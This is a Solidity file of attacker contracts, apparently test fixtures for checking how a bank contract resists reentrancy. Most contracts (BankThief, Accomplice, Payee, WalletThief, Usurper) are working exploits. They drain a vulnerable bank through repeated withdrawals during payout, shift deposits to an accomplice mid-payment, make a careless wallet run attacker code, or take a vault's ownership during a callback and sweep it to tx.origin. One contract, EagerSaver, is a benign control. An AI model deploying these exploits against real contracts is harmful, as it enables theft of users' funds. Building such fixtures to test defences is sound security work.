// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IOldBank {
    function deposit() external payable;
    function withdraw() external;
    function withdrawFor(address) external;
    function payTo(address) external;
    function give(address) external;
    function poke() external;
    function balances(address) external view returns (uint256);
}

abstract contract Loot {
    function _keep() internal {
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }
}

/// Holds what was given away, and takes it out.
contract Accomplice is Loot {
    function own_take(IOldBank bank) external {
        bank.withdraw();
        _keep();
    }

    receive() external payable {}
}

/// Robs a bank that pays before it writes.
contract BankThief is Loot {
    IOldBank private bank;
    IOldBank private peer;
    uint256 private left;
    uint256 private how;
    bool private fails;
    Accomplice private friend;

    function own_deposit(IOldBank bank_) external payable {
        bank_.deposit{value: msg.value}();
    }

    /// One deposit (now or earlier), `rounds` payments.
    function own_drain(IOldBank bank_, uint256 rounds) external payable {
        (bank, left, how) = (bank_, rounds - 1, 0);
        _start();
    }

    /// The deposit is given away while it is being paid out.
    function own_split(IOldBank bank_, bool tries) external payable {
        (bank, left, how, friend) = (bank_, 1, tries ? 5 : 1, new Accomplice());
        _start();
        friend.own_take(bank);
        _keep();
    }

    /// The other till is asked while the first is paying.
    function own_peer(IOldBank bank_, IOldBank peer_) external payable {
        (bank, peer, left, how) = (bank_, peer_, 1, 2);
        _start();
    }

    /// The lock is cleared first.
    function own_poke(IOldBank bank_, uint256 rounds) external payable {
        (bank, left, how) = (bank_, rounds - 1, 3);
        _start();
    }

    /// One attempt fails inside a try, the next succeeds.
    function own_twice(IOldBank bank_, uint256 rounds) external payable {
        (bank, left, how) = (bank_, rounds - 1, 4);
        _start();
    }

    function _start() private {
        if (msg.value > 0) bank.deposit{value: msg.value}();
        bank.withdraw();
        _keep();
    }

    receive() external payable {
        if (fails) revert("not now");
        if (left == 0 || msg.sender != address(bank) || msg.sender.balance < msg.value) return;
        left -= 1;
        if (how == 1 || how == 5) {
            if (how == 5) try bank.withdraw() {} catch {}
            bank.give(address(friend));
        } else if (how == 2) {
            peer.withdraw();
        } else {
            if (how == 3) bank.poke();
            if (how == 4) {
                fails = true;
                try bank.withdraw() {} catch {}
                fails = false;
            }
            bank.withdraw();
        }
    }
}

/// Is paid for somebody else, and asks to be paid again.
contract Payee is Loot {
    address private who;
    uint256 private left;

    function own_arm(address who_, uint256 rounds) external {
        (who, left) = (who_, rounds - 1);
    }

    function own_cash() external {
        _keep();
    }

    receive() external payable {
        if (left == 0 || msg.sender.balance < msg.value) return;
        left -= 1;
        IOldBank(msg.sender).withdrawFor(who);
    }
}

/// Owns the deposit and names the payee, who is another contract.
contract Principal {
    function own_open(IOldBank bank, address payee) external payable {
        bank.deposit{value: msg.value}();
        bank.payTo(payee);
    }

    function own_ask(IOldBank bank) external {
        bank.withdrawFor(address(this));
    }
}

/// Code for a careless wallet, and the call that has it run.
contract WalletThief is Loot {
    function own_rob(address wallet, address code, bytes calldata data) external {
        (bool ok, ) = wallet.call(abi.encodeWithSignature("execute(address,bytes)", code, data));
        require(ok);
        _keep();
    }

    function own_sweep(address payable to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// Becomes the owner while the vault is still waiting for its answer, and sweeps.
contract Usurper is Loot {
    address private vault;
    address private heir;

    function own_usurp(address vault_, address heir_) external {
        (vault, heir) = (vault_, heir_);
        (bool ok, ) = vault.call(abi.encodeWithSignature("settle(address)", heir));
        require(ok);
        if (heir == address(this)) {
            (ok, ) = vault.call(abi.encodeWithSignature("sweep(address)", address(this)));
            require(ok);
            _keep();
        }
    }

    fallback() external payable {
        if (msg.sender != vault || msg.value > 0) return;
        (bool ok, ) = vault.call(abi.encodeWithSignature("adopt(address)", heir));
        require(ok);
    }

    receive() external payable {
        if (msg.sender != vault || msg.value > 0) return;
        (bool ok, ) = vault.call(abi.encodeWithSignature("adopt(address)", heir));
        require(ok);
    }
}

/// Takes its money out of a good bank bit by bit, each bit in the payment of the one before. It may.
contract EagerSaver {
    address private bank;
    uint256 private left;
    uint256 private part;

    function put(address bank_) external payable {
        (bool ok, ) = bank_.call{value: msg.value}(abi.encodeWithSignature("deposit()"));
        require(ok);
    }

    function take(address bank_, uint256 parts, uint256 each) external {
        (bank, left, part) = (bank_, parts, each);
        _next();
    }

    /// Withdraws once and tries, in vain, to be paid again.
    function tryAgain(address bank_) external {
        (bank, left, part) = (bank_, 1, 0);
        IOldBank(bank_).withdraw();
    }

    function _next() private {
        if (left == 0) return;
        left -= 1;
        bytes memory ask = part > 0 ? abi.encodeWithSignature("withdraw(uint256)", part) : abi.encodeWithSignature("withdraw()");
        (bool ok, ) = bank.call(ask);
        require(ok || part == 0);
    }

    receive() external payable {
        if (msg.sender == bank) _next();
    }
}
